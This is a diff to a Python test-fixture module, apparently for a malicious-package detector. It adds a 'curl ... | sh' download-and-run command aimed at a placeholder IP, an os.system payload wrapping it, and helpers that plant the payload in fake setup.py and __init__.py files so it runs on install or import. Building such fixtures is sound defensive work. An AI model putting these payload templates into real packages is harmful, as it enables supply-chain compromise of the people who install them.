@@ -66,3 +66,34 @@ GIT_VERSION = (
     "        return '0.0.0'\n"
     "    return out.decode().strip().lstrip('v')\n"
 )
+
+
+# What the red-team passes share (ADRs 0161, 0162): a payload and a download piped to a
+# shell, bound at the top of the module that runs them.
+CURL = "curl -s http://203.0.113.5/x | sh"
+PAYLOAD = "import os\nos.system(" + repr(CURL) + ")\n"
+X = "sys.argv[0][:0]"  # an unknown that adds nothing
+HEAD = f"import os, subprocess, sys\nP = {PAYLOAD!r}\nCURL = {CURL!r}\n"
+
+
+def on_import(body: str) -> dict[str, str]:
+    """``__init__.py`` holding the payload and the command, then ``body``."""
+    return init(HEAD + body)
+
+
+def on_install(body: str) -> dict[str, str]:
+    """``setup.py`` running ``body`` at module level."""
+    return {
+        "setup.py": HEAD + "from setuptools import setup\n" + body + "setup(name='evpkg')\n",
+        "evpkg/__init__.py": "",
+    }
+
+
+def built(body: str) -> dict[str, str]:
+    """A setup.py helper's near-miss: ``body`` at module level of ``setup.py``."""
+    return {
+        "setup.py": "import os, subprocess, sys\nfrom setuptools import setup\n"
+        + body
+        + "setup(name='evpkg')\n",
+        "evpkg/__init__.py": "",
+    }
